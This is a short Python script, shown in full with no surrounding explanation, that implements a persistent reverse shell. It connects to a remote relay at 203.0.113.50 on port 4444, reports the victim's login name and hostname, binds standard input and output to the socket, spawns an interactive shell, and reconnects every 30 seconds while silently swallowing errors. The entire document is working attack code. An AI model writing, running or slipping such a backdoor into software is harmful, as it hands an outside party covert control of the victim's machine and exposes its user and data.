import os
import pty
import socket
import time

RELAY = ("203.0.113.50", 4444)


def attach():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(RELAY)
    s.sendall(f"{os.getlogin()}@{socket.gethostname()}\n".encode())
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn(os.environ.get("SHELL", "/bin/bash"))


while True:
    try:
        if os.fork() == 0:
            attach()
            os._exit(0)
        os.wait()
    except Exception:
        pass
    time.sleep(30)
